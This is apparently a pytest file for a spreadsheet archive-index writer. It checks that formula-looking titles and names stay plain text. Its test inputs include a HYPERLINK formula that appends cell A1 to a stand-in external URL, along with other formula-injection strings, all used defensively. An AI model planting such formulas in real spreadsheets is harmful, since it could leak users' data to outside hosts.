"""Text from people never becomes a formula in a spreadsheet the tool writes (issue 19.1)."""

from __future__ import annotations

import datetime as dt
import zipfile

import openpyxl
import pytest

from dossier.pack import write_index
from dossier.xlsxtext import clean_text, set_text

HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"点此")', "+SUM(1,2)", "-1+2", "@A1",
           "=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_set_text_keeps_a_formula_looking_string_as_text(tmp_path, text):
    book = openpyxl.Workbook()
    set_text(book.active["A1"], text)
    book.save(tmp_path / "x.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "x.xlsx").active["A1"]
    assert cell.value == text and cell.data_type == "s"
    with zipfile.ZipFile(tmp_path / "x.xlsx") as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_control_characters_are_dropped_tabs_and_line_breaks_kept():
    assert clean_text("甲\x0b乙\x07丙\t丁\n戊") == "甲乙丙\t丁\n戊"


def test_archive_index_shows_hostile_titles_and_names_as_text(tmp_path):
    items = [{"seq": i, "archival_code": f"2022-1.1.1-0{i}", "title": text, "department": "=办公室",
              "date": "", "pages": 1, "sha256": "0" * 64, "path": f"data/原件/{text}.pdf"}
             for i, text in enumerate(HOSTILE, start=1)]
    target = tmp_path / "归档目录.xlsx"
    write_index(target, {"items": items}, dt.date(2022, 12, 31))
    ws = openpyxl.load_workbook(target).active
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert [r[2] for r in rows] == HOSTILE and {r[3] for r in rows} == {"=办公室"}
    assert [r[0] for r in rows] == [1, 2, 3, 4, 5]  # numbers stay numbers
    with zipfile.ZipFile(target) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
